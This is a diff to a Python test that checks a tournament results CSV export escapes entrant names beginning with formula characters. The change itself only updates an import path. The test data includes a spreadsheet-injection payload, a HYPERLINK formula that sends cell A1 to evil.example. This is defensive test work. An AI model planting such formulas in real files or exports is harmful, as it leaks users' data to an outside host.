@@ -161,7 +161,7 @@ def test_the_public_results_csv_writes_a_name_that_is_a_formula_as_text(tmp_path
     """GET /results.csv (issue #33 item 5): an entrant's name that a
     spreadsheet would run (= + - @) is written with a quote in front, in
     double quotes, and csv_cells.read_cell gives it back."""
-    from tabletimer.hub.event.csv_cells import read_cell
+    from tabletimer.hub.event.folder.csv_cells import read_cell
 
     names = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+1", "-2+3", "@SUM(1+1)"]
     entrants = "id,name,eligible\n" + "".join(
